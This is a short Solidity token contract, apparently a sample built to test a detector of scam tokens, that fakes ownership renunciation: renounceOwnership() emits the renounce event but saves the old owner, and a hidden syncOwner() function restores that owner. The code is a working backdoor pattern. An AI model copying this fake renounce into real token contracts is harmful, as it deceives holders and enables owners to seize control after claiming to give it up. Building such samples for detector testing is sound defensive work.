// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {DetectionBase} from "./DetectionBase.sol";

/// @notice Renounces in appearance only: renounceOwnership() zeroes owner() but keeps the renouncer in storage,
/// and `syncOwner()` (a name no selector table lists) puts it back as owner.
contract KeeperToken is DetectionBase {
    address private _keeper;

    constructor(string memory n, string memory s, uint256 supply) DetectionBase(n, s, supply) {}

    function renounceOwnership() external override onlyOwner {
        _keeper = _owner;
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function syncOwner() external {
        require(msg.sender == _keeper, "sync");
        emit OwnershipTransferred(address(0), _keeper);
        _owner = _keeper;
    }
}
